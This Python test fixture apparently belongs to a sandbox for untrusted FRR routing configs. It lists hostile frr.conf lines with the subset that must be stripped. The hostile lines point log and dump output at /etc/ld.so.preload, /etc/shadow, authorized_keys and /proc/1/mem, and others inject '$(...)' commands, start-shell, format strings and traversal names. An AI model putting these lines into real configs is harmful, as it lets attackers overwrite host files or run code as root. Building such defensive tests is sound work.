"""Hostile lines of a frr.conf, each a device of one twin: what a pull request would try against the host that runs it.

`{guard}` is a folder of the host that the user who runs the twin may write; `{guard}/<attack>` holds files for each
attack. Nothing of it may change, whether the lines are left out beforehand or daemons read them. Other paths of the
host are named only where `twin_attacked` puts a stand-in: a twin that fails the test must not harm who runs it.
"""

from typing import Final, NamedTuple


class Attack(NamedTuple):
    """Lines of a frr.conf behind the device's own BGP process, and those of them that no daemon may be given."""

    name: str
    lines: tuple[str, ...]
    left_out: tuple[str, ...] = ()


LONGEST: Final = 4095
"""What FRR takes as one line, in bytes; what follows is a line of its own (FRR 8.4, lib/vty.h, VTY_BUFSIZ)."""


def _log(name: str, path: str, *more: str, level: str = " debugging") -> Attack:
    line = f"log file {path}{level}"
    return Attack(name, (*more, line), (*(one for one in more if one.startswith(("log", "debug"))), line))


def _dump(name: str, what: str, path: str, more: str = "") -> Attack:
    line = f"dump bgp {what} {path}{more}"
    return Attack(name, (line,), (line,))


TRIAL: Final = (
    _log("log-file", "{guard}/log-file/TWIN-LOG"),
    _log("bashrc", "{guard}/home/.bashrc", "log commands", "debug bgp updates"),
    Attack(
        "preload",
        (
            "log commands",
            "log file /etc/ld.so.preload debugging",
            "router bgp 65000",
            " neighbor 192.0.2.1 remote-as 1",
            " neighbor 192.0.2.1 description {guard}/evil.so",
            "exit",
        ),
        ("log commands", "log file /etc/ld.so.preload debugging"),
    ),
    Attack(
        "filtered-file",
        ("log-filter TWIN", "log filtered-file {guard}/filtered-file/TWIN-FILT debugging"),
        ("log-filter TWIN", "log filtered-file {guard}/filtered-file/TWIN-FILT debugging"),
    ),
    _dump("dump-all", "all", "{guard}/dump-all/TWIN-DUMP"),
    _dump("dump-routes", "routes-mrt", "{guard}/dump-routes/TWIN-MRT"),
    _dump("dump-updates", "updates", "{guard}/dump-updates/TWIN-UPD"),
    _dump("dump-truncates", "routes-mrt", "{guard}/dump-truncates/precious"),
    _dump("dump-shadow", "routes-mrt", "/etc/shadow"),
)
"""What was done to a twin that ran on the host's own files: it wrote, emptied, and as root ran code of the sender's."""

OTHERS: Final = (
    _log("log-relative", "twin-relative.log"),
    _log("log-dots", "/run/nodrop/../../{guard}/log-dots/log"),
    _log("log-link", "{guard}/log-link/link"),
    _log("log-appends", "{guard}/log-appends/precious"),
    _log("log-parent-root", "/proc/1/root/{guard}/log-parent-root/log"),
    _log("log-own-root", "/proc/self/root/{guard}/log-own-root/log"),
    _log("log-parent-cwd", "/proc/1/cwd/twin-cwd.log"),
    _log("log-parent-output", "/proc/1/fd/2"),
    _log("log-answers", "/proc/2/fd/3"),
    _log("log-cron", "/etc/cron.d/twin"),
    _log("log-var-tmp", "/var/tmp/{token}"),
    _log("log-tmp", "/tmp/{token}"),
    _log("log-var-log", "/var/log/{token}"),
    _log("log-opt", "/opt/{token}"),
    _log("log-shared-memory", "/dev/shm/{token}"),
    Attack(
        "log-in-bgp",
        ("router bgp 65000", " log file {guard}/log-in-bgp/log debugging", "exit"),
        (" log file {guard}/log-in-bgp/log debugging",),
    ),
    Attack(
        "log-return",
        ("log file {guard}/log-return/log debugging\r", "log file {guard}/log-return/log debugging \r"),
        ("log file {guard}/log-return/log debugging\r", "log file {guard}/log-return/log debugging \r"),
    ),
    Attack(
        "log-long-line",
        ("!" * LONGEST + "log file {guard}/log-long-line/log debugging",),
        ("!" * LONGEST + "log file {guard}/log-long-line/log debugging",),
    ),
    Attack(
        "log-spaces",
        ("\v log   file  {guard}/log-spaces/log  debugging ", "  log file {guard}/log-spaces/log2"),
        ("\v log   file  {guard}/log-spaces/log  debugging ", "  log file {guard}/log-spaces/log2"),
    ),
    Attack(
        "log-extended",
        (
            "log extended x",
            " destination file {guard}/log-extended/log create",
            "exit",
            "log unix {guard}/log-extended",
        ),
        (
            "log extended x",
            " destination file {guard}/log-extended/log create",
            "exit",
            "log unix {guard}/log-extended",
        ),
    ),
    Attack("log-syslog", ("log syslog debugging", "log facility kern"), ("log syslog debugging", "log facility kern")),
    Attack(
        "log-steered",
        (
            "log commands",
            "log file {guard}/home/.profile debugging",
            "router bgp 65000",
            " neighbor 192.0.2.1 remote-as 1",
            " neighbor 192.0.2.1 description $(touch {guard}/log-steered/ran)`touch {guard}/log-steered/ran`",
            "exit",
        ),
        ("log commands", "log file {guard}/home/.profile debugging"),
    ),
    _dump("dump-link", "all", "{guard}/dump-link/link"),
    _dump("dump-et", "all-et", "{guard}/dump-et/precious", " 1"),
    _dump("dump-updates-et", "updates-et", "{guard}/dump-updates-et/precious", " 1"),
    _dump("dump-dated", "routes-mrt", "{guard}/dump-dated/%Y%m%d-%H%M", " 1"),
    _dump("dump-home", "all", "{guard}/home/.ssh/authorized_keys"),
    _dump("dump-parent-memory", "all", "/proc/1/mem"),
    Attack("banner", ("banner motd file {guard}/banner/secret",), ("banner motd file {guard}/banner/secret",)),
    Attack(
        "rpki",
        (
            "rpki",
            " rpki cache 192.0.2.1 22 root {guard}/rpki/secret preference 1",
            "exit",
            "ip route 10.9.0.0/16 Null0",
        ),
        ("rpki", " rpki cache 192.0.2.1 22 root {guard}/rpki/secret preference 1", "exit"),
    ),
    Attack(
        "bmp",
        (
            "router bgp 65000",
            " bmp mirror buffer-limit 4294967294",
            " bmp targets x",
            "  bmp connect 192.0.2.1 port 1 min-retry 100 max-retry 200",
            " exit",
            "exit",
        ),
        (
            " bmp mirror buffer-limit 4294967294",
            " bmp targets x",
            "  bmp connect 192.0.2.1 port 1 min-retry 100 max-retry 200",
            " exit",
        ),
    ),
    Attack("agentx", ("agentx",), ("agentx",)),
    Attack(
        "fpm",
        ("fpm connection ip 192.0.2.1 port 2620", "fpm address 192.0.2.1"),
        ("fpm connection ip 192.0.2.1 port 2620", "fpm address 192.0.2.1"),
    ),
    Attack("netns", ("vrf x", " netns /proc/1/ns/net", "exit-vrf"), (" netns /proc/1/ns/net",)),
    Attack(
        "scripts",
        ("zebra on-rib-process script ../../{guard}/scripts/x", "route-map x permit 10", " match script ../x", "exit"),
        ("zebra on-rib-process script ../../{guard}/scripts/x", " match script ../x"),
    ),
    Attack(
        "orders",
        (
            "do write file",
            "write file",
            "do copy running-config startup-config",
            "output file {guard}/orders/log",
            "do start-shell touch {guard}/orders/ran",
            "start-shell",
        ),
        (
            "do write file",
            "do copy running-config startup-config",
            "output file {guard}/orders/log",
            "do start-shell touch {guard}/orders/ran",
        ),
    ),
    Attack(
        "names",
        (
            "hostname $(touch {guard}/names/ran)",
            "vrf ../../../{guard}/names/vrf",
            "exit-vrf",
            "interface ../../../{guard}/names/port",
            "exit",
        ),
    ),
    Attack(
        "secrets", ("password x", "enable password x", "line vty", " exec-timeout 0 1", " access-class none", "exit")
    ),
    Attack(
        "formats",
        (
            "router bgp 65000",
            " neighbor %n%n%n%s remote-as 1",
            "exit",
            "route-map %s%n permit 1",
            " description %n%s%n",
            "exit",
        ),
    ),
    Attack(
        "abbreviated",
        (
            "lo file {guard}/abbreviated/log debugging",
            "l f {guard}/abbreviated/log",
            "du bgp all {guard}/abbreviated/dump",
            "dum bgp updates {guard}/abbreviated/dump",
            "dump bg routes {guard}/abbreviated/dump",
            "out file {guard}/abbreviated/output",
            "ban mo fi {guard}/abbreviated/secret",
            "deb bgp updates",
            "age",
            "ze on-rib script x",
            "rpk",
            " rp cache 192.0.2.1 22 root {guard}/abbreviated/secret preference 1",
            "ex",
            "vrf x",
            " net /proc/1/ns/net",
            "exit-vrf",
            "route-map x permit 10",
            " mat scr ../x",
            "exit",
        ),
        (
            "lo file {guard}/abbreviated/log debugging",
            "l f {guard}/abbreviated/log",
            "du bgp all {guard}/abbreviated/dump",
            "dum bgp updates {guard}/abbreviated/dump",
            "dump bg routes {guard}/abbreviated/dump",
            "out file {guard}/abbreviated/output",
            "ban mo fi {guard}/abbreviated/secret",
            "deb bgp updates",
            "age",
            "ze on-rib script x",
            "rpk",
            " rp cache 192.0.2.1 22 root {guard}/abbreviated/secret preference 1",
            "ex",
            " net /proc/1/ns/net",
            " mat scr ../x",
        ),
    ),
    Attack(
        "whole-words",
        (
            "ip route 10.9.0.0/16 Null0",
            "line vty",
            "exit",
            "router bgp 65000",
            " neighbor 192.0.2.1 remote-as 1",
            " no bgp default ipv4-unicast",
            "exit",
            "router isis x",
            " net 49.0001.1921.6800.1001.00",
            " log-adjacency-changes",
            "exit",
            "route-map x permit 10",
            " description lo file x",
            " match source-protocol bgp",
            " on-match next",
            " set metric 1",
            "exit",
        ),
    ),
    Attack("debug", ("debug bgp updates", "debug zebra packet"), ("debug bgp updates", "debug zebra packet")),
)

ATTACKS: Final = (*TRIAL, *OTHERS)

PORTS: Final = (
    *('a"b', "a'b", "a#b", "#", "a\\", "\\", "-batch", "--", "-1", "lo", "if0", "void0", "n0", "netns", "all"),
    *("default", "$(id)", "`id`", "a;b", "a b", "a\nb", "a\tb", "../../x", "/etc", ".", "..", "a" * 300, "%n%s"),
    *("\u00e4", "\u202e", "Vlan10", "type", "dev"),
)
"""Names of interfaces that mean something else to a shell, to `ip -batch` or to a file system."""

VRFS: Final = ("../n0/zebra.conf", "..", ".", "a b", "a/b", "$(id)", "-", "n" * 300)
"""Names of VRFs, each of which becomes a file in a twin."""
